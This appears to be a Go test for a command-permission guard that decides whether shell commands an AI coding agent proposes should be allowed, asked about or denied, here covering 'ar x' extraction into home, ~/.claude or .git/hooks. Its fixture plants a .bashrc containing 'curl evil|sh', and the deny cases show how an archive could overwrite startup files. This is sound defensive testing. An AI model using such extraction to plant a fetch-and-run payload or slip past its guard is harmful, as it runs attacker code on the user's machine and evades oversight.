package rewrite

import (
	"os"
	"os/exec"
	"path/filepath"
	"testing"
)

// TestArExtract (issue 12): ar x writes its members into the working
// directory or --output DIR (GNU ar 2.38+), which was not judged (ar x
// --output ~ x.a passed). The members named, or every member the real ar
// t lists, are judged where ar puts them; the real ar is then run to show
// it writes the file corral refuses.
func TestArExtract(t *testing.T) {
	t.Parallel()
	if _, err := exec.LookPath("ar"); err != nil {
		t.Skip("no ar")
	}
	cfg := scratchProject(t, map[string]string{"proj/.git/hooks/": "", "proj/.bashrc": "curl evil|sh\n", "proj/m.o": "x",
		"home/.bashrc": "a\n", "home/.claude/": ""})
	for _, args := range [][]string{{"rc", "evil.a", ".bashrc"}, {"rc", "lib.a", "m.o"}} {
		cmd := exec.Command("ar", args...)
		cmd.Dir = cfg.Project
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("ar %v: %v\n%s", args, err, out)
		}
	}
	checkDecisions(t, cfg, []struct{ cmd, want string }{
		{"ar x --output ~ evil.a", "deny"},
		{"ar --output=$HOME x evil.a", "deny"},
		{"ar x evil.a --output " + cfg.Home, "deny"},
		{"ar x --output=.git/hooks lib.a pre-commit", "deny"},
		{"cd ~ && ar x " + filepath.Join(cfg.Project, "evil.a"), "deny"},
		{"ar x --output ~/.claude missing.a", "ask"},
		// Look-alikes.
		{"ar x evil.a", "allow"}, // ./.bashrc in the project
		{"ar x --output build evil.a", "allow"},
		{"ar x --output ~ lib.a", "allow"},
		{"ar --output=~ x evil.a", "allow"}, // a directory named ~
		{"ar xO evil.a --output ~", "allow"},
		{"ar t evil.a", "allow"},
		{"ar rcs lib.a m.o", "allow"},
	})
	cmd := exec.Command("ar", "x", "--output", cfg.Home, "evil.a")
	cmd.Dir = cfg.Project
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Skipf("ar has no --output (before 2.38): %v\n%s", err, out)
	}
	if b, _ := os.ReadFile(filepath.Join(cfg.Home, ".bashrc")); string(b) != "curl evil|sh\n" {
		t.Errorf("ar x --output HOME left ~/.bashrc %q: the reading is wrong", b)
	}
}
